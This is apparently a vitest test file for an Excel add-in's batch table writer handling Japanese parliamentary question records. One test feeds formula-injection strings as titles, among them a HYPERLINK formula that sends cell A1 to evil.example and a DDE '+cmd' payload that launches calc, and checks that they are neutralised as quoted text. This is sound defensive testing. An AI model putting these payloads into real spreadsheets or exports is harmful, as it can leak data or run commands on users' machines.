/** runBoardBatch on office-addin-mock: sync counts, table resizing, formats before values, injection-safe cells. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TableLayoutChangedError } from '../../../addin/board/board-errors';
import type { CellValue } from '../../../addin/board/sheet/cell-value';
import { numberFormats } from '../../../addin/board/sheet/number-formats';
import { toTableWrite } from '../../../addin/board/sheet/table-rows';
import type { WorkbookSnapshot } from '../../../addin/board/sheet/table-snapshot';
import { type QuestionRow, TABLE, questionTable } from '../../../addin/board/tables/workbook-tables';
import { runBoardBatch, writeBudget } from '../../../addin/excel/run-board-batch';
import { resetExcelCheck } from '../../../addin/excel/run-excel';
import { type FakeExcel, createFakeExcel, formulaLikeEntered } from './fake-excel';

const headers = questionTable.columns.map((c) => c.header);
const at = (header: string) => headers.indexOf(header);

function questionRows(count: number, title = (i: number) => `質問主意書 ${i}`): QuestionRow[] {
  return Array.from({ length: count }, (_, i) => ({
    key: `sangiin-221-${i + 1}`, kind: '主意書', house: '参議院', session: 221, number: i + 1, title: title(i), submitters: '山田太郎',
    submittedOn: 46073, transferredOn: 46083, cabinetOn: 46087, dueOn: 46087, status: '作成中', note: '',
  }));
}

/** Writes `rows` into 質問表 in one batch. */
function writeQuestions(rows: QuestionRow[]) {
  return runBoardBatch([TABLE.questions], (snapshot: WorkbookSnapshot) => ({
    writes: [toTableWrite(questionTable, snapshot.get(TABLE.questions), rows)],
    result: snapshot.get(TABLE.questions)?.rows.length,
  }));
}

let excel: FakeExcel;
beforeEach(() => {
  resetExcelCheck();
  excel = createFakeExcel();
  excel.install();
  excel.addTable(TABLE.questions, '質問', 0, 0, headers, []);
});
afterEach(() => {
  delete (globalThis as Record<string, unknown>).Excel;
  delete (globalThis as Record<string, unknown>).Office;
});

describe('runBoardBatch', () => {
  it('writes 1,000 rows with 3 syncs: which tables exist, their values, one write', async () => {
    await writeQuestions(questionRows(1000));
    expect(excel.syncs).toBe(3);
    const t = excel.table(TABLE.questions);
    expect(t.bodyRows).toBe(1000);
    expect(t.rows[999]![at('キー')]).toBe('sangiin-221-1000');
    expect(t.rows[999]![at('回次')]).toBe(221);
    expect(excel.cell('質問', 1000, at('提出日')).format).toBe(numberFormats.date);
    expect(excel.cell('質問', 1000, at('件名')).format).toBe('@');
  });

  it('uses the same number of syncs for 10 rows and for 1,000 (constant, not per row)', async () => {
    await writeQuestions(questionRows(10));
    const small = excel.syncs;
    excel.resetCounts();
    await writeQuestions(questionRows(1000));
    expect(small).toBe(3);
    expect(excel.syncs).toBe(small);
  });

  it('reads what is there (the snapshot) before planning', async () => {
    await writeQuestions(questionRows(7));
    expect(await writeQuestions(questionRows(7))).toBe(7);
  });

  it('sends number formats before values in each range write', async () => {
    await writeQuestions(questionRows(3));
    expect(excel.writes.map((w) => w.op)).toEqual(['numberFormat', 'values']);
    expect(excel.writes[1]!.data).toHaveLength(3);
  });

  it('shrinks the table when fewer rows are written, and keeps one blank row when none are', async () => {
    await writeQuestions(questionRows(5));
    await writeQuestions(questionRows(2));
    expect(excel.table(TABLE.questions).bodyRows).toBe(2);
    expect(excel.cell('質問', 3, at('キー')).value).toBe('');
    await writeQuestions([]);
    const t = excel.table(TABLE.questions);
    expect(t.bodyRows).toBe(1);
    expect(t.rows[0]!.every((v) => v === '')).toBe(true);
  });

  it('sends formula-like text so Excel cannot take it for a formula: checked on the raw values and formats sent', async () => {
    const evil = ['=HYPERLINK("https://evil.example/?x="&A1,"開く")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A9)', "'quoted"];
    await writeQuestions(questionRows(evil.length, (i) => evil[i]!));
    // What the fake received, not what it (or the preview's model of Excel) made of it.
    const values = excel.writes.filter((w) => w.op === 'values');
    const formats = excel.writes.filter((w) => w.op === 'numberFormat');
    expect(values.map((w) => [w.row, w.column])).toEqual(formats.map((w) => [w.row, w.column]));
    // Excel's rules, stated in the fake on their own (formulaLikeEntered): = + - @ is a formula unless the cell
    // is Text ('@') or the string carries the quote prefix.
    expect(formulaLikeEntered(excel.writes)).toEqual([]);
    const sent = values[0]!.data as CellValue[][];
    const sentFormats = formats[0]!.data as string[][];
    evil.forEach((text, i) => {
      expect(sent[i]![at('件名')]).toBe(`'${text}`);
      expect(sentFormats[i]![at('件名')]).toBe('@');
      // The quote prefix is consumed: the cell shows the text exactly as given.
      expect((sent[i]![at('件名')] as string).slice(1)).toBe(text);
    });
  });

  it('leaves a column the user added untouched (null cells) while rewriting the rest', async () => {
    excel.addTable('メモ表', 'メモ', 0, 0, [...headers, '自分用メモ'], [[...headers.map((h) => (h === 'キー' ? 'sangiin-221-1' : '')), '電話済み']]);
    await runBoardBatch(['メモ表'], (snapshot) => ({
      writes: [{ ...toTableWrite(questionTable, snapshot.get('メモ表'), questionRows(1)), table: 'メモ表' }],
      result: null,
    }));
    const t = excel.table('メモ表');
    expect(t.rows[0]![headers.length]).toBe('電話済み');
    expect(t.rows[0]![at('件名')]).toBe('質問主意書 0');
  });

  it('refuses a write whose columns differ from what was read, and writes nothing', async () => {
    await writeQuestions(questionRows(2));
    excel.resetCounts();
    const attempt = runBoardBatch([TABLE.questions], () => ({
      writes: [{ table: TABLE.questions, headers: ['キー', '件名'], kinds: ['text', 'text'], rows: [['x', 'y']] }],
      result: null,
    }));
    await expect(attempt).rejects.toBeInstanceOf(TableLayoutChangedError);
    await expect(attempt).rejects.toThrow('「質問表」の列が読み取り後に変更されました');
    expect(excel.syncs).toBe(2);
    expect(excel.table(TABLE.questions).rows[0]![at('キー')]).toBe('sangiin-221-1');
  });

  it('leaves a missing table out of the snapshot (the plan decides what that means)', async () => {
    const seen = await runBoardBatch([TABLE.questions, '無い表'], (snapshot) => ({ writes: [], result: [...snapshot.keys()] }));
    expect(seen).toEqual([TABLE.questions]);
    expect(excel.syncs).toBe(2);
  });

  it('splits a very large write into syncs under the request budget, reporting progress', async () => {
    const long = 'あ'.repeat(400);
    const rows = questionRows(6000, (i) => `${long}${i}`);
    const progress: number[] = [];
    await runBoardBatch([TABLE.questions], (snapshot) => ({
      writes: [toTableWrite(questionTable, snapshot.get(TABLE.questions), rows)], result: null,
    }), (p) => progress.push(p.done));
    const t = excel.table(TABLE.questions);
    expect(t.bodyRows).toBe(6000);
    expect(t.rows[5999]![at('件名')]).toBe(`${long}5999`);
    const valueWrites = excel.writes.filter((w) => w.op === 'values');
    expect(valueWrites.length).toBeGreaterThan(1);
    // Each part stays under the budget (3 bytes per character, as estimated).
    for (const w of valueWrites) expect(JSON.stringify(w.data).length).toBeLessThan(writeBudget.bytes);
    expect(excel.syncs).toBe(2 + valueWrites.length);
    expect(progress.at(-1)).toBe(6000);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
  });
});
